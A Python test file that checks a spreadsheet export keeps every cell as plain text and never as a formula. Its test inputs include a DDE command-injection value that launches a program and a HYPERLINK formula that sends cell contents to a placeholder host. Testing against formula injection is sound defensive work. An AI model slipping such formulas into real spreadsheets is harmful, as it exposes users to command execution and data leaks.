# SPDX-License-Identifier: EUPL-1.2
"""Workbooks: every cell is text, whatever it begins with, and comes back as it was."""

from __future__ import annotations

import re
from io import BytesIO
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from hop_desktop.documents.workbook import LONGEST_CELL, Table, escaped, workbook
from hop_desktop.domain.text import kept

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ESCAPED = re.compile("_x([0-9A-F]{4})_")
BEGINNINGS = ["=", "+", "-", "@", "\t", "\n", "＝", "＋", "－", "＠", "'", "=cmd|' /C calc'!A0"]
WORDS = st.builds(
    lambda beginning, text: kept(beginning + text),
    st.sampled_from([*BEGINNINGS, ""]),
    st.text(max_size=60),
)
HOSTILE = '=HYPERLINK("http://x.example?"&A1,"Vajuta siia")'


def cells(data: bytes) -> list[list[str]]:
    """Return the texts of the first sheet out of its very XML, as ECMA-376 has them."""
    with ZipFile(BytesIO(data)) as archive:
        sheet = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314  ours
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            texts = ET.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314  ours
            shared = ["".join(t.text or "" for t in each.iter(f"{MAIN}t")) for each in texts]
    rows = sheet.iter(f"{MAIN}row")
    return [[_text(cell, shared) for cell in row.iter(f"{MAIN}c")] for row in rows]


def _text(cell: ET.Element, shared: list[str]) -> str:
    assert cell.find(f"{MAIN}f") is None  # no formula
    assert cell.get("t") in {"s", "inlineStr", None}  # text or nothing
    value = cell.find(f"{MAIN}v")
    if cell.get("t") == "s":
        assert value is not None
        held = shared[int(value.text or "")]
    else:
        assert value is None
        held = "".join(each.text or "" for each in cell.iter(f"{MAIN}t"))
    return ESCAPED.sub(lambda found: chr(int(found[1], 16)), held)


def book(*rows: tuple[str, ...]) -> bytes:
    heads = tuple(f"Veerg {n}" for n in range(len(rows[0])))
    return workbook([Table("Juhtum", heads, rows)])


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(WORDS, WORDS), min_size=1, max_size=4))
@example([(HOSTILE, "_x0041_")])
@example([("_x005F_x0041_", "\uffff\ufffe")])
@example([("a\tb\nc", " ")])
def test_no_cell_is_a_formula_and_every_text_comes_back(rows: list[tuple[str, str]]) -> None:
    data = book(*rows)

    assert cells(data)[1:] == [list(row) for row in rows]
    sheet = load_workbook(BytesIO(data)).worksheets[0]
    assert [cell.data_type for row in sheet.iter_rows() for cell in row].count("f") == 0


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_a_cell_stays_text_when_somebody_edits_it(beginning: str) -> None:
    cell = load_workbook(BytesIO(book((f"{beginning}1+1",)))).worksheets[0]["A2"]

    assert (cell.data_type, cell.number_format, cell.quotePrefix) == ("s", "@", True)


def test_numbers_and_days_stay_as_they_were_typed() -> None:
    typed = ("0123", "61808120200", "1E5", "3-4", "TRUE", "12.03.2026")

    assert cells(book(typed))[1] == list(typed)


def test_a_long_text_goes_on_in_the_row_below() -> None:
    long = "õ" * (LONGEST_CELL * 2 + 5)

    rows = cells(book((long, "lühike")))[1:]

    assert "".join(row[0] for row in rows) == long
    assert [row[1] for row in rows] == ["lühike", "", ""]
    assert max(len(row[0]) for row in rows) <= LONGEST_CELL


def test_what_xml_cannot_hold_is_written_so_that_excel_reads_it() -> None:
    assert escaped("a\x00b\rc") == "a_x0000_b_x000D_c"
    assert escaped("_x0041_") == "_x005F_x0041_"
    assert escaped("tavaline _x tekst_") == "tavaline _x tekst_"
